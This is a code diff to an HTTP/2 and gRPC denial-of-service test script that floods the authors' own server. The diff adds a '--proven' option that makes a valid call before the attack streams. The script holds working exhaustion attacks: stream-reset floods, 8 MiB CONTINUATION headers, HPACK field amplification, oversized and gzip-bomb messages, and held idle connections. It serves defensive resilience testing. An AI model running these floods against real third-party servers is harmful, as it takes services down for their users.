@@ -1,5 +1,5 @@
 #!/usr/bin/env python3
-"""Attacks on a port of ours, one a run: `attack.py MODE HOST:PORT [--count N] [--seconds S] [--clients C]`.
+"""Attacks on a port of ours, one a run: `attack.py MODE HOST:PORT [--count N] [--seconds S] [--clients C] [--proven]`.
 
 Prints one JSON line: what was sent and how often the server closed a connection. What it does to the server is measured by attack_test.py.
 """
@@ -20,6 +20,9 @@ from http2 import ACK, CONTINUATION, DATA, END_HEADERS, END_STREAM, HEADERS, PIN
 HELLO = PREFACE + frame(SETTINGS, 0, 0)
 # A query's headers in full, then as references into the table that they made: what a flood sends of them costs few bytes.
 BLOCK = http2.header_block(http2.COMPUTE_ACTIONS)
+# A valid call, which --proven makes on each connection first. What a mode does begins with stream 3.
+ASKED = http2.message(http2.query_bytes("shared", [[0.1, 0.0, -0.2, 0.0]]))
+CALL = frame(HEADERS, END_HEADERS, 1, BLOCK) + frame(DATA, END_STREAM, 1, ASKED)
 
 
 def discard(sock):
@@ -39,11 +42,18 @@ def discard(sock):
 class Flood:
     """Sends bytes on a connection as fast as it takes them; connects anew when the server closes it."""
 
-    def __init__(self, address, deadline):
-        self.address, self.deadline = address, deadline
+    def __init__(self, address, deadline, proven):
+        self.address, self.deadline, self.proven = address, deadline, proven
         self.begun = time.monotonic()
         self.sent, self.connections, self.closed = 0, 0, 0
         self.answers = "read"
+
+    def greet(self, sock, windows):
+        sock.sendall(HELLO + (CALL if self.proven else b""))
+        windows.left[0] -= len(ASKED) if self.proven else 0
+        answered = not self.proven
+        while not answered and time.monotonic() < self.deadline:
+            answered = any(stream == 1 and kind == HEADERS and flags & END_STREAM for kind, flags, stream, _ in windows.read(0.05))
 
     def run(self, count, batches):
         """`batches(n)`: the bytes of a fresh connection's next `n` abuses; each of them counts once."""
@@ -55,7 +65,7 @@ class Flood:
                 continue
             self.connections += 1
             try:
-                sock.sendall(HELLO)
+                self.greet(sock, Windows(sock, []))
                 produce = batches()
                 while self.sent < count and time.monotonic() < self.deadline:
                     abuses, data = next(produce)
@@ -76,13 +86,13 @@ class Flood:
 class Unread(Flood):
     """A flood that never reads what the server has to say to it."""
 
-    def __init__(self, address, deadline):
-        super().__init__(address, deadline)
+    def __init__(self, address, deadline, proven):
+        super().__init__(address, deadline, proven)
         self.answers = "unread"
 
 
 def resets():
-    stream = 1
+    stream = 3
     while True:
         data = b""
         for _ in range(50):
@@ -111,15 +121,15 @@ def window_updates():
 
 
 def empty_data():
-    yield 0, frame(HEADERS, END_HEADERS, 1, BLOCK)
-    data = frame(DATA, 0, 1) * 50
+    yield 0, frame(HEADERS, END_HEADERS, 3, BLOCK)
+    data = frame(DATA, 0, 3) * 50
     while True:
         yield 50, data
 
 
 def streams():
     """Calls that begin and never end."""
-    stream = 1
+    stream = 3
     while True:
         data = b""
         for _ in range(50):
@@ -129,7 +139,7 @@ def streams():
 
 
 def unknown_methods():
-    stream = 1
+    stream = 3
     block = http2.header_block("/troupe.v1.Nobody/Knows")
     while True:
         data = b""
@@ -141,14 +151,14 @@ def unknown_methods():
 
 def big_headers():
     """One header of 8 MiB in CONTINUATION frames."""
-    yield 0, frame(HEADERS, 0, 1, http2.header_block(http2.COMPUTE_ACTIONS) + b"\0\3big" + http2.hpack_int(8 << 20, 7))
+    yield 0, frame(HEADERS, 0, 3, http2.header_block(http2.COMPUTE_ACTIONS) + b"\0\3big" + http2.hpack_int(8 << 20, 7))
     while True:
-        yield 1, frame(CONTINUATION, 0, 1, b"x" * 16384)
+        yield 1, frame(CONTINUATION, 0, 3, b"x" * 16384)
 
 
 def many_fields():
     """Calls with a field in the connection's table that stands 4000 times, one byte each."""
-    stream = 1
+    stream = 3
     block = http2.header_block(http2.COMPUTE_ACTIONS) + b"\x40\1a\1b" + b"\xbe" * 4000
     while True:
         yield 1, frame(HEADERS, END_HEADERS | END_STREAM, stream, block)
@@ -158,15 +168,15 @@ def many_fields():
 def big_message(size, compressed=b""):
     def batches():
         head = struct.pack(">BI", 1 if compressed else 0, len(compressed) or size)
-        yield 0, frame(HEADERS, END_HEADERS, 1, BLOCK if not compressed else http2.header_block(
+        yield 0, frame(HEADERS, END_HEADERS, 3, BLOCK if not compressed else http2.header_block(
             http2.COMPUTE_ACTIONS, [("grpc-encoding", "gzip")]))
         if compressed:
-            yield 1, frame(DATA, 0, 1, head + compressed[:16000])
+            yield 1, frame(DATA, 0, 3, head + compressed[:16000])
             for begin in range(16000, len(compressed), 16384):
-                yield 1, frame(DATA, 0, 1, compressed[begin:begin + 16384])
-        yield 1, frame(DATA, 0, 1, head + b"x" * 16000)
+                yield 1, frame(DATA, 0, 3, compressed[begin:begin + 16384])
+        yield 1, frame(DATA, 0, 3, head + b"x" * 16000)
         while True:
-            yield 1, frame(DATA, 0, 1, b"x" * 16384)
+            yield 1, frame(DATA, 0, 3, b"x" * 16384)
     return batches
 
 
@@ -227,17 +237,17 @@ class Windowed(Flood):
                 sock.close()
 
     def one(self, sock, count, produce):
-        sock.sendall(HELLO)
-        windows, pending = Windows(sock, [1]), None
+        windows, pending = Windows(sock, [3]), None
+        self.greet(sock, windows)
         while self.sent < count and time.monotonic() < self.deadline:
             if pending is None:
                 abuses, pending = next(produce)
             size = len(pending) - 9 if pending[3] == DATA else 0
             wait = 0.05
-            if size <= windows.most(1):
+            if size <= windows.most(3):
                 sock.settimeout(max(0.01, self.deadline - time.monotonic()))
                 sock.sendall(pending)
-                windows.spend(1, size)
+                windows.spend(3, size)
                 self.sent += abuses
                 pending, wait = None, 0
             if any(kind == RST_STREAM for kind, _, _, _ in windows.read(wait)):
@@ -254,10 +264,10 @@ class Unfinished(Windowed):
     CALLS = [(http2.COMPUTE_ACTIONS, b"", b"x")]
 
     def one(self, sock, count, produce):
-        sock.sendall(HELLO + frame(HEADERS, END_HEADERS, 1, BLOCK)
-                     + frame(DATA, END_STREAM, 1, http2.message(http2.query_bytes("shared", [[0.1, 0.0, -0.2, 0.0]]))))
+        sock.sendall(HELLO + CALL)
         streams = range(3, 3 + 2 * self.STREAMS, 2)
         windows, left, answered, over = Windows(sock, streams), {}, False, 0
+        windows.left[0] -= len(ASKED)
         while time.monotonic() < self.deadline and self.sent < count:
             sent = False
             # Whole messages one after the other: a connection may have few bytes of unfinished ones.
@@ -314,10 +324,11 @@ class UnreadAnswers(Windowed):
     QUERY = http2.message(http2.query_bytes("shared", [[0.1, 0.0, -0.2, 0.0]] * 1024))
 
     def one(self, sock, count, produce):
-        streams = range(1, 1 + 2 * self.STREAMS, 2)
+        streams = range(3, 3 + 2 * self.STREAMS, 2)
         block = http2.header_block("/troupe.v1.Query/StreamActions")
-        sock.sendall(HELLO + b"".join(frame(HEADERS, END_HEADERS, stream, block) for stream in streams))
         windows, unsent = Windows(sock, streams), dict.fromkeys(streams, self.QUERY)
+        self.greet(sock, windows)
+        sock.sendall(b"".join(frame(HEADERS, END_HEADERS, stream, block) for stream in streams))
         while time.monotonic() < self.deadline and self.sent < count:
             sent = False
             for stream, rest in unsent.items():
@@ -375,13 +386,13 @@ def hold_connections(address, count, seconds, first_bytes):
     return {"connections": made, "closed": closed, "held_at_end": len(held), "refused": failed}
 
 
-# Mode -> what a connection of it sends first and then never again.
+# Mode -> what a connection of it sends first and then never again; with --proven, behind a call.
 HOLDS = {
     "idle": b"",
     "half_preface": PREFACE[:10],
     "settings_only": HELLO,
-    "unknown_method": HELLO + frame(HEADERS, END_HEADERS | END_STREAM, 1, http2.header_block("/troupe.v1.Nobody/Knows")),
-    "no_body": HELLO + frame(HEADERS, END_HEADERS, 1, BLOCK),
+    "unknown_method": HELLO + frame(HEADERS, END_HEADERS | END_STREAM, 3, http2.header_block("/troupe.v1.Nobody/Knows")),
+    "no_body": HELLO + frame(HEADERS, END_HEADERS, 3, BLOCK),
 }
 FLOODS = {
     "resets": resets,
@@ -410,11 +421,15 @@ def main():
     parser.add_argument("--count", type=int, default=40000, help="abuses, or connections held at once")
     parser.add_argument("--seconds", type=float, default=3)
     parser.add_argument("--clients", type=int, default=1, help="connections that flood side by side")
+    parser.add_argument("--proven", action="store_true", help="each connection makes a valid call first")
     options = parser.parse_args()
     os.nice(19)
     raise_descriptor_limit()
     if options.mode in HOLDS:
-        print(json.dumps(hold_connections(options.address, options.count, options.seconds, HOLDS[options.mode])))
+        first = HOLDS[options.mode]
+        if options.proven:
+            first = HELLO + CALL + first.removeprefix(HELLO)
+        print(json.dumps(hold_connections(options.address, options.count, options.seconds, first)))
         return
     if options.mode == "message":
         kind, batches = Windowed, big_message(256 << 20)
@@ -433,7 +448,7 @@ def main():
     else:
         kind, batches = Flood, FLOODS[options.mode]
     deadline = time.monotonic() + options.seconds
-    floods = [kind(options.address, deadline) for _ in range(options.clients)]
+    floods = [kind(options.address, deadline, options.proven) for _ in range(options.clients)]
     threads = [threading.Thread(target=flood.run, args=(options.count, batches)) for flood in floods]
     for thread in threads:
         thread.start()
